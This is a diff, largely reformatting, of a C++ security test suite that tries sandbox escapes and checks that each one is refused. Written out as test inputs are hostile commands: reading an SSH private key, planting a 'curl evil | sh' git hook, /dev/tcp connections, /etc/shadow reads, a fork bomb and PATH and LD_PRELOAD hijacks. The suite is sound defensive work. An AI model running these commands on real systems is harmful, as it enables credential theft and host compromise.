@@ -1,7 +1,7 @@
 // The escape battery: each case runs one attack through the spawner with the default profile (a
 // workspace, the system paths, a private TMPDIR) while this process plays the kernel: a throwaway
-// $HOME with a fake ~/.ssh/id_rsa and a fake API key in its environment. Every case asserts that the
-// attack failed in the expected way and that nothing the sandbox started is still alive.
+// $HOME with a fake ~/.ssh/id_rsa and a fake API key in its environment. Every case asserts that
+// the attack failed in the expected way and that nothing the sandbox started is still alive.
 // tests/security/README.md lists the cases.
 #include <arpa/inet.h>
 #include <fcntl.h>
@@ -39,11 +39,13 @@ constexpr const char* kKeySentinel = "PRIVATE-KEY-SENTINEL";
 constexpr const char* kApiKey = "sk-kernex-FAKE-API-KEY-0123456789";
 volatile long g_parent_secret = 0x5EC12E7;  // target of process_vm_readv
 
-// A write outside the grants: refused by Landlock (EACCES) or, first, by the read-only mount (EROFS).
+// A write outside the grants: refused by Landlock (EACCES) or, first, by the read-only mount
+// (EROFS).
 bool write_refused(const std::string& s) { return s == "EACCES" || s == "EROFS"; }
 
 // What the loopback server of the network cases answers: a tiny HTTP response, for curl.
-constexpr const char* kHttpOk = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
+constexpr const char* kHttpOk =
+    "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
 
 class SecurityBattery : public ::testing::Test {
  protected:
@@ -59,7 +61,8 @@ class SecurityBattery : public ::testing::Test {
     fs::create_directories(ws_ / ".git" / "hooks");
     fs::create_directories(outside_);
     fs::create_directories(plain_ws_ = root_ / "plain-ws");
-    std::ofstream(home_ / ".ssh" / "id_rsa") << "-----BEGIN OPENSSH PRIVATE KEY-----\n" << kKeySentinel << "\n";
+    std::ofstream(home_ / ".ssh" / "id_rsa") << "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+                                             << kKeySentinel << "\n";
     std::ofstream(home_ / ".bashrc") << "# original\n";
     std::ofstream(home_ / "readable.txt") << "public";
     std::ofstream(ws_ / ".git" / "hooks" / "pre-commit.sample") << "#!/bin/sh\n";
@@ -84,7 +87,8 @@ class SecurityBattery : public ::testing::Test {
   }
   static Policy build(const PolicyBuilder& b) { return build_policy(b); }
 
-  SpawnResult run(const Policy& policy, std::vector<std::string> argv, std::optional<std::chrono::milliseconds> timeout = {}) {
+  SpawnResult run(const Policy& policy, std::vector<std::string> argv,
+                  std::optional<std::chrono::milliseconds> timeout = {}) {
     return run_leaving_nothing(policy, std::move(argv), timeout);
   }
   SpawnResult attack(std::vector<std::string> args, const PolicyBuilder& b = defaults()) {
@@ -97,20 +101,25 @@ class SecurityBattery : public ::testing::Test {
 
   static bool scoping() { return landlock_abi() >= 6; }
 
-  // Without protective mounts (and so without writable grants): children take the other spawn path, inheriting the seccomp filter from
-  // a clone thread that carries it and made group leaders by the spawning thread.
-  // Writable grants get a mount namespace (noexec), so this policy writes nowhere.
+  // Without protective mounts (and so without writable grants): children take the other spawn path,
+  // inheriting the seccomp filter from a clone thread that carries it and made group leaders by the
+  // spawning thread. Writable grants get a mount namespace (noexec), so this policy writes nowhere.
   static PolicyBuilder inherited_filter() {
     SandboxProfile p;
     p.private_tmp = false;
-    return PolicyBuilder(p).read_only(plain_ws_).working_dir(plain_ws_).executable(KERNEX_ATTACK_DIR).timeout(10s);
+    return PolicyBuilder(p)
+        .read_only(plain_ws_)
+        .working_dir(plain_ws_)
+        .executable(KERNEX_ATTACK_DIR)
+        .timeout(10s);
   }
 
   static inline fs::path root_, home_, ws_, outside_, plain_ws_;
   static inline HomeOverride home_override_;
 };
 
-// ---- secrets and files -----------------------------------------------------------------------------
+// ---- secrets and files
+// -----------------------------------------------------------------------------
 
 TEST_F(SecurityBattery, ReadSshKeyWithCat) {
   auto r = shell("cat \"$HOME/.ssh/id_rsa\"");
@@ -160,9 +169,11 @@ TEST_F(SecurityBattery, WriteSharedTmp) {
 }
 
 TEST_F(SecurityBattery, ReadOtherPartsOfTheSystem) {
-  for (const char* path : {"/etc/shadow", "/root", "/home", "/var/log", "/tmp", "/proc/self/status", "/sys/kernel"}) {
+  for (const char* path :
+       {"/etc/shadow", "/root", "/home", "/var/log", "/tmp", "/proc/self/status", "/sys/kernel"}) {
     auto r = attack({"read", path});
-    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT") << path << ": " << r.stdout_data;
+    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT")
+        << path << ": " << r.stdout_data;
   }
 }
 
@@ -172,9 +183,11 @@ TEST_F(SecurityBattery, ListSharedTmp) {
 }
 
 TEST_F(SecurityBattery, WriteGitHooks) {
-  auto plant = shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+  auto plant =
+      shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
   EXPECT_NE(plant.exit_code, 0);
-  EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos) << plant.stderr_data;
+  EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos)
+      << plant.stderr_data;
   EXPECT_FALSE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit"));
   auto overwrite = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit.sample").string()});
   EXPECT_EQ(first_line(overwrite.stdout_data), "EROFS");
@@ -287,7 +300,9 @@ TEST_F(SecurityBattery, DnsLookup) {
 
 TEST_F(SecurityBattery, BashDevTcp) {
   LoopbackServer server(kHttpOk);
-  auto r = run(build(defaults()), {"/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(server.port()) + " && echo connected"});
+  auto r = run(build(defaults()), {"/bin/bash", "-c",
+                                   "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(server.port()) +
+                                       " && echo connected"});
   EXPECT_NE(r.exit_code, 0);
   EXPECT_EQ(r.stdout_data.find("connected"), std::string::npos);
   EXPECT_EQ(server.accepted(), 0);
@@ -314,11 +329,13 @@ TEST_F(SecurityBattery, AbstractUnixSocket) {
   addr.sun_family = AF_UNIX;
   std::memcpy(addr.sun_path + 1, name.data(), name.size());
   ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr),
-                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())), 0);
+                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())),
+            0);
   ::listen(listener, 1);
   auto r = attack({"abstract", name});
   EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
-  // Even with AF_UNIX opted in, Landlock's scoping keeps abstract sockets outside the sandbox unreachable.
+  // Even with AF_UNIX opted in, Landlock's scoping keeps abstract sockets outside the sandbox
+  // unreachable.
   if (scoping()) {
     auto opted = attack({"abstract", name}, defaults().allow_unix_sockets());
     EXPECT_EQ(first_line(opted.stdout_data), "connect:EPERM");
@@ -327,8 +344,12 @@ TEST_F(SecurityBattery, AbstractUnixSocket) {
 }
 
 TEST_F(SecurityBattery, NetlinkPacketVsockRawSockets) {
-  for (auto [family, type] : {std::pair{"netlink", "raw"}, {"packet", "raw"}, {"vsock", "stream"}, {"inet", "raw"},
-                              {"inet6", "dgram"}, {"unix", "stream"}}) {
+  for (auto [family, type] : {std::pair{"netlink", "raw"},
+                              {"packet", "raw"},
+                              {"vsock", "stream"},
+                              {"inet", "raw"},
+                              {"inet6", "dgram"},
+                              {"unix", "stream"}}) {
     auto r = attack({"socket", family, type});
     EXPECT_EQ(first_line(r.stdout_data), "EPERM") << family << "/" << type;
   }
@@ -338,7 +359,8 @@ TEST_F(SecurityBattery, NetlinkPacketVsockRawSockets) {
 }
 
 TEST_F(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
-  if (landlock_abi() < 4) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
+  if (landlock_abi() < 4)
+    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
   LoopbackServer allowed(kHttpOk);
   LoopbackServer other(kHttpOk);
   auto b = defaults().allow_tcp_connect(static_cast<std::uint16_t>(allowed.port()));
@@ -351,12 +373,14 @@ TEST_F(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
   EXPECT_EQ(first_line(attack({"udp", "53"}, b).stdout_data), "socket:EPERM");
   EXPECT_EQ(first_line(attack({"socket", "inet", "raw"}, b).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"socket", "netlink", "raw"}, b).stdout_data), "EPERM");
-  EXPECT_EQ(first_line(attack({"socket", "inet", "stream", "132"}, b).stdout_data), "EPERM");  // SCTP
+  EXPECT_EQ(first_line(attack({"socket", "inet", "stream", "132"}, b).stdout_data),
+            "EPERM");  // SCTP
 }
 
 // kernex's network_egress test, ported: curl to a loopback responder.
 TEST_F(SecurityBattery, NetworkEgressPort) {
-  if (landlock_abi() < 4) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
+  if (landlock_abi() < 4)
+    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
   if (!fs::exists("/usr/bin/curl")) GTEST_SKIP() << "curl is not installed";
   LoopbackServer server(kHttpOk);
   const std::string url = "http://127.0.0.1:" + std::to_string(server.port()) + "/";
@@ -364,12 +388,14 @@ TEST_F(SecurityBattery, NetworkEgressPort) {
                      {"curl", "--silent", "--show-error", "--max-time", "10", url});
   EXPECT_TRUE(allowed.success()) << allowed.stderr_data;
   EXPECT_NE(allowed.stdout_data.find("ok"), std::string::npos);
-  auto denied = run(build(defaults()), {"curl", "--silent", "--show-error", "--max-time", "10", url});
+  auto denied =
+      run(build(defaults()), {"curl", "--silent", "--show-error", "--max-time", "10", url});
   EXPECT_FALSE(denied.success());
   EXPECT_EQ(denied.stdout_data.find("ok"), std::string::npos);
 }
 
-// ---- kernel attack surface and other processes ----------------------------------------------------
+// ---- kernel attack surface and other processes
+// ----------------------------------------------------
 
 TEST_F(SecurityBattery, IoUringSetup) {
   EXPECT_EQ(first_line(attack({"io_uring"}).stdout_data), "EPERM");
@@ -382,10 +408,12 @@ TEST_F(SecurityBattery, PtraceParent) {
 TEST_F(SecurityBattery, ProcessVmReadvParent) {
   std::ostringstream addr;
   addr << const_cast<const long*>(&g_parent_secret);
-  EXPECT_EQ(first_line(attack({"vm_readv", std::to_string(::getpid()), addr.str()}).stdout_data), "EPERM");
+  EXPECT_EQ(first_line(attack({"vm_readv", std::to_string(::getpid()), addr.str()}).stdout_data),
+            "EPERM");
 }
 
-// The kernel's threads that clone the children, by tid (a signal to any thread reaches the process).
+// The kernel's threads that clone the children, by tid (a signal to any thread reaches the
+// process).
 std::vector<std::string> clone_thread_tids() {
   std::vector<std::string> tids;
   for (const auto& task : fs::directory_iterator("/proc/self/task")) {
@@ -398,9 +426,10 @@ std::vector<std::string> clone_thread_tids() {
 }
 
 TEST_F(SecurityBattery, KillParent) {
-  if (!scoping()) GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no signal scoping (needs 6)";
-  // EPERM from Landlock's signal scope; ESRCH when the command is in a PID namespace of its own, where
-  // the kernel's pids name nothing (or another process of that namespace).
+  if (!scoping())
+    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no signal scoping (needs 6)";
+  // EPERM from Landlock's signal scope; ESRCH when the command is in a PID namespace of its own,
+  // where the kernel's pids name nothing (or another process of that namespace).
   auto refused = [](const SpawnResult& r) {
     const auto line = first_line(r.stdout_data);
     return line == "EPERM" || line == "ESRCH";
@@ -412,7 +441,8 @@ TEST_F(SecurityBattery, KillParent) {
   }
   // Also the threads the children are cloned from, on both spawn paths: none may share a Landlock
   // domain with a command (signals within one domain are allowed).
-  EXPECT_TRUE(refused(attack({"kill", std::to_string(::getpid())}, inherited_filter()))) << "kernel";
+  EXPECT_TRUE(refused(attack({"kill", std::to_string(::getpid())}, inherited_filter())))
+      << "kernel";
   const auto tids = clone_thread_tids();
   ASSERT_GE(tids.size(), 2u);  // the plain thread and one carrying the filter
   for (const auto& tid : tids) {
@@ -425,27 +455,38 @@ TEST_F(SecurityBattery, PrlimitOfTheKernel) {
   const std::string self = std::to_string(::getpid());
   EXPECT_EQ(first_line(attack({"prlimit", self}).stdout_data), "EPERM");
   EXPECT_EQ(first_line(attack({"prlimit", self}, inherited_filter()).stdout_data), "EPERM");
-  EXPECT_EQ(first_line(attack({"prlimit", "0"}).stdout_data), "OK");  // its own limits stay settable
+  EXPECT_EQ(first_line(attack({"prlimit", "0"}).stdout_data),
+            "OK");  // its own limits stay settable
 }
 
-// The attacks that rely on the seccomp filter and the process group, again on the spawn path where the
-// filter is inherited from a clone thread rather than loaded by the child.
+// The attacks that rely on the seccomp filter and the process group, again on the spawn path where
+// the filter is inherited from a clone thread rather than loaded by the child.
 TEST_F(SecurityBattery, FilterHoldsWhenInherited) {
   const std::string parent = std::to_string(::getpid());
-  for (const std::vector<std::string>& args : std::vector<std::vector<std::string>>{
-           {"socket", "unix", "stream", "0"}, {"socket", "netlink", "raw", "0"}, {"io_uring"}, {"ptrace", parent},
-           {"mount", "/tmp"}, {"unshare"}, {"setns"}, {"keyctl"}, {"bpf"}, {"perf"}, {"tiocsti"}}) {
+  for (const std::vector<std::string>& args :
+       std::vector<std::vector<std::string>>{{"socket", "unix", "stream", "0"},
+                                             {"socket", "netlink", "raw", "0"},
+                                             {"io_uring"},
+                                             {"ptrace", parent},
+                                             {"mount", "/tmp"},
+                                             {"unshare"},
+                                             {"setns"},
+                                             {"keyctl"},
+                                             {"bpf"},
+                                             {"perf"},
+                                             {"tiocsti"}}) {
     EXPECT_EQ(first_line(attack(args, inherited_filter()).stdout_data), "EPERM") << args.front();
   }
   auto daemon = run(build(inherited_filter()), {kAttack, "daemon"});
   EXPECT_NE(daemon.stdout_data.find("setsid=EPERM"), std::string::npos) << daemon.stdout_data;
-  auto bg = run(build(inherited_filter()), {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
+  auto bg = run(build(inherited_filter()),
+                {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
   EXPECT_TRUE(bg.timed_out);
 }
 
-// A kernel started from a terminal: the command must have no controlling terminal, even where /dev/tty
-// is granted (the path that can't setsid drops it with TIOCNOTTY instead). Run in a forked helper
-// that leads a session whose controlling terminal is a fresh pty.
+// A kernel started from a terminal: the command must have no controlling terminal, even where
+// /dev/tty is granted (the path that can't setsid drops it with TIOCNOTTY instead). Run in a forked
+// helper that leads a session whose controlling terminal is a fresh pty.
 TEST_F(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
   int report[2];
   ASSERT_EQ(::pipe(report), 0);
@@ -458,7 +499,8 @@ TEST_F(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
       out = "setup failed";
     } else {
       const std::string slave = ::ptsname(master);
-      const int tty = ::open(slave.c_str(), O_RDWR);  // a session leader's first tty: its controlling one
+      const int tty =
+          ::open(slave.c_str(), O_RDWR);  // a session leader's first tty: its controlling one
       for (const auto& b : {defaults(), inherited_filter()}) {
         // /dev/tty opens the caller's controlling terminal, ENXIO when it has none.
         auto policy = PolicyBuilder(b).read_write("/dev/tty").Build();
@@ -500,9 +542,7 @@ TEST_F(SecurityBattery, UnshareNamespaces) {
   EXPECT_EQ(first_line(attack({"clone_newuser"}).stdout_data), "EPERM");
 }
 
-TEST_F(SecurityBattery, Setns) {
-  EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM");
-}
+TEST_F(SecurityBattery, Setns) { EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM"); }
 
 TEST_F(SecurityBattery, Keyctl) {
   EXPECT_EQ(first_line(attack({"keyctl"}).stdout_data), "EPERM");
@@ -511,7 +551,9 @@ TEST_F(SecurityBattery, Keyctl) {
 
 TEST_F(SecurityBattery, Bpf) { EXPECT_EQ(first_line(attack({"bpf"}).stdout_data), "EPERM"); }
 
-TEST_F(SecurityBattery, PerfEventOpen) { EXPECT_EQ(first_line(attack({"perf"}).stdout_data), "EPERM"); }
+TEST_F(SecurityBattery, PerfEventOpen) {
+  EXPECT_EQ(first_line(attack({"perf"}).stdout_data), "EPERM");
+}
 
 TEST_F(SecurityBattery, UserfaultfdAndModules) {
   EXPECT_EQ(first_line(attack({"userfaultfd"}).stdout_data), "EPERM");
@@ -541,8 +583,9 @@ TEST_F(SecurityBattery, ThirtyTwoBitSyscallEntry) {
   auto r = attack({"int80"});
   if (first_line(r.stdout_data) == "UNSUPPORTED") GTEST_SKIP() << "not an x86-64 kernel";
   if (!host_has_ia32_entry()) {
-    GTEST_SKIP() << "this kernel has no 32-bit syscall entry (IA-32 emulation off): int 0x80 faults "
-                    "even unsandboxed, so there is nothing for the filter to block";
+    GTEST_SKIP()
+        << "this kernel has no 32-bit syscall entry (IA-32 emulation off): int 0x80 faults "
+           "even unsandboxed, so there is nothing for the filter to block";
   }
   EXPECT_EQ(r.term_signal, SIGSYS) << r.stdout_data;
   EXPECT_EQ(r.stdout_data, "");
@@ -550,12 +593,15 @@ TEST_F(SecurityBattery, ThirtyTwoBitSyscallEntry) {
 
 TEST_F(SecurityBattery, CapabilitiesAreGone) {
   auto r = attack({"caps"});
-  EXPECT_EQ(first_line(r.stdout_data), "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
+  EXPECT_EQ(first_line(r.stdout_data),
+            "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
       << r.stdout_data;
   const std::string other_uid = ::getuid() == 65534 ? "65533" : "65534";
-  // EINVAL instead of EPERM when the workspace needed a user namespace (unprivileged kernel process):
-  // the other uid is not even mapped there.
-  auto denied = [](const std::string& out) { return first_line(out) == "EPERM" || first_line(out) == "EINVAL"; };
+  // EINVAL instead of EPERM when the workspace needed a user namespace (unprivileged kernel
+  // process): the other uid is not even mapped there.
+  auto denied = [](const std::string& out) {
+    return first_line(out) == "EPERM" || first_line(out) == "EINVAL";
+  };
   auto setuid = attack({"setuid", other_uid});
   EXPECT_TRUE(denied(setuid.stdout_data)) << setuid.stdout_data;
   std::ofstream(ws_ / "owned.txt") << "x";
@@ -573,14 +619,17 @@ TEST_F(SecurityBattery, SetuidBinary) {
   }
   ASSERT_EQ(::chmod((suid / "attack").c_str(), 04755), 0);
   auto r = run(build(defaults().executable(suid)), {(suid / "attack").string(), "euid"});
-  EXPECT_EQ(first_line(r.stdout_data), "euid=" + std::to_string(::geteuid()) + " uid=" + std::to_string(::getuid()));
+  EXPECT_EQ(first_line(r.stdout_data),
+            "euid=" + std::to_string(::geteuid()) + " uid=" + std::to_string(::getuid()));
 }
 
-// ---- commands and environment ----------------------------------------------------------------------
+// ---- commands and environment
+// ----------------------------------------------------------------------
 
 TEST_F(SecurityBattery, CommandNotOnAllowList) {
   auto policy = build(defaults().allow_command("echo"));
-  for (auto argv : {std::vector<std::string>{"cat", "/etc/hostname"}, {"/bin/sh", "-c", "cat /etc/hostname"},
+  for (auto argv : {std::vector<std::string>{"cat", "/etc/hostname"},
+                    {"/bin/sh", "-c", "cat /etc/hostname"},
                     {"/usr/bin/env", "cat"}}) {
     Command cmd;
     cmd.argv = argv;
@@ -591,7 +640,8 @@ TEST_F(SecurityBattery, CommandNotOnAllowList) {
 }
 
 TEST_F(SecurityBattery, CommandViaAllowedShell) {
-  auto r = run(build(defaults().allow_command("sh")), {"sh", "-c", "cat /etc/hostname; echo after"});
+  auto r =
+      run(build(defaults().allow_command("sh")), {"sh", "-c", "cat /etc/hostname; echo after"});
   EXPECT_EQ(r.stdout_data, "after\n");
   EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
 }
@@ -601,7 +651,8 @@ TEST_F(SecurityBattery, CommandViaAllowedInterpreter) {
   auto r = run(build(defaults().allow_command("perl")),
                {"perl", "-e", "exec('/bin/cat', '/etc/hostname') or print \"blocked: $!\\n\""});
   EXPECT_EQ(r.stdout_data, "blocked: Permission denied\n");
-  auto sys = run(build(defaults().allow_command("perl")), {"perl", "-e", "print system('id') == 0 ? 'ran' : 'blocked'"});
+  auto sys = run(build(defaults().allow_command("perl")),
+                 {"perl", "-e", "print system('id') == 0 ? 'ran' : 'blocked'"});
   EXPECT_EQ(sys.stdout_data, "blocked");
 }
 
@@ -616,7 +667,8 @@ TEST_F(SecurityBattery, PathOverride) {
   fs::copy_file(kAttack, ws_ / "ls", fs::copy_options::overwrite_existing);
   auto only_ws = shell("PATH=\"$PWD\" ls");
   EXPECT_NE(only_ws.exit_code, 0);
-  EXPECT_NE(only_ws.stderr_data.find("Permission denied"), std::string::npos) << only_ws.stderr_data;
+  EXPECT_NE(only_ws.stderr_data.find("Permission denied"), std::string::npos)
+      << only_ws.stderr_data;
   // With the system dirs after it, the shell skips the planted file and finds the real ls.
   auto fallback = shell("PATH=\"$PWD:$PATH\" ls -d .");
   EXPECT_EQ(fallback.stdout_data, ".\n");
@@ -635,7 +687,8 @@ TEST_F(SecurityBattery, LdPreloadOverride) {
   EXPECT_FALSE(defaults().set_env("BASH_ENV", "/tmp/x").Build().has_value());
 }
 
-// ---- resources and lifetime ------------------------------------------------------------------------
+// ---- resources and lifetime
+// ------------------------------------------------------------------------
 
 TEST_F(SecurityBattery, ForkBomb) {
   ResourceLimits limits;
@@ -643,7 +696,8 @@ TEST_F(SecurityBattery, ForkBomb) {
   auto r = run(build(defaults().limits(limits)), {kAttack, "fork_bomb"}, 1500ms);
   EXPECT_FALSE(r.success());
   EXPECT_TRUE(r.timed_out);
-  EXPECT_EQ(first_line(r.stdout_data), "EAGAIN");  // fork failed at the limit instead of filling the pid space
+  EXPECT_EQ(first_line(r.stdout_data),
+            "EAGAIN");  // fork failed at the limit instead of filling the pid space
 }
 
 TEST_F(SecurityBattery, MemoryBomb) {
@@ -666,12 +720,13 @@ TEST_F(SecurityBattery, CpuLoop) {
 }
 
 TEST_F(SecurityBattery, BackgroundChildOutlivingTheTimeout) {
-  auto r = run(build(defaults()), {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
+  auto r = run(build(defaults()),
+               {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
   EXPECT_TRUE(r.timed_out);
   const pid_t bg = std::atoi(r.stdout_data.c_str());
   ASSERT_GT(bg, 0);
-  // Already reaped by expect_nothing_left; in a PID namespace of the command's own, `bg` is a pid of
-  // that namespace (dead with it) and names nothing here.
+  // Already reaped by expect_nothing_left; in a PID namespace of the command's own, `bg` is a pid
+  // of that namespace (dead with it) and names nothing here.
   if (!build(defaults()).status().pid_namespace) {
     EXPECT_NE(::kill(bg, 0), 0);
   }
@@ -684,7 +739,8 @@ TEST_F(SecurityBattery, DaemonThatLeavesTheSession) {
 }
 
 TEST_F(SecurityBattery, StdoutFlood) {
-  auto r = run(build(defaults().output_caps(64 * 1024, 64 * 1024)), {"/usr/bin/yes", "flood"}, 500ms);
+  auto r =
+      run(build(defaults().output_caps(64 * 1024, 64 * 1024)), {"/usr/bin/yes", "flood"}, 500ms);
   EXPECT_TRUE(r.timed_out);
   EXPECT_TRUE(r.stdout_truncated);
   EXPECT_LT(r.stdout_data.size(), 64 * 1024 + 200);
@@ -694,7 +750,8 @@ TEST_F(SecurityBattery, StdoutFlood) {
 TEST_F(SecurityBattery, DiskFill) {
   ResourceLimits limits;
   limits.file_size_bytes = 1 << 20;
-  auto r = attack({"fill", (ws_ / "fill.bin").string(), std::to_string(1L << 30)}, defaults().limits(limits));
+  auto r = attack({"fill", (ws_ / "fill.bin").string(), std::to_string(1L << 30)},
+                  defaults().limits(limits));
   EXPECT_EQ(first_line(r.stdout_data), "EFBIG after 1048576");
   EXPECT_LE(fs::file_size(ws_ / "fill.bin"), 1u << 20);
   fs::remove(ws_ / "fill.bin");
@@ -707,7 +764,8 @@ TEST_F(SecurityBattery, FdExhaustion) {
   EXPECT_EQ(first_line(r.stdout_data), "EMFILE after 29");  // 0-2 are stdio
 }
 
-// ---- kernex's home_lockdown test, ported -----------------------------------------------------------
+// ---- kernex's home_lockdown test, ported
+// -----------------------------------------------------------
 
 TEST_F(SecurityBattery, HomeLockdownPort) {
   const fs::path project = home_ / ".kernex" / "projects" / "proj";
@@ -718,7 +776,8 @@ TEST_F(SecurityBattery, HomeLockdownPort) {
   // Stricter than kernex: nothing of $HOME outside the workspace is readable.
   auto readable = run(build(b), {"/bin/cat", (home_ / "readable.txt").string()});
   EXPECT_NE(readable.exit_code, 0);
-  auto write = run(build(b), {"/bin/sh", "-c", "printf x > '" + (project / "agent-wrote.txt").string() + "'"});
+  auto write = run(
+      build(b), {"/bin/sh", "-c", "printf x > '" + (project / "agent-wrote.txt").string() + "'"});
   EXPECT_TRUE(write.success()) << write.stderr_data;
   EXPECT_TRUE(fs::exists(project / "agent-wrote.txt"));
 }
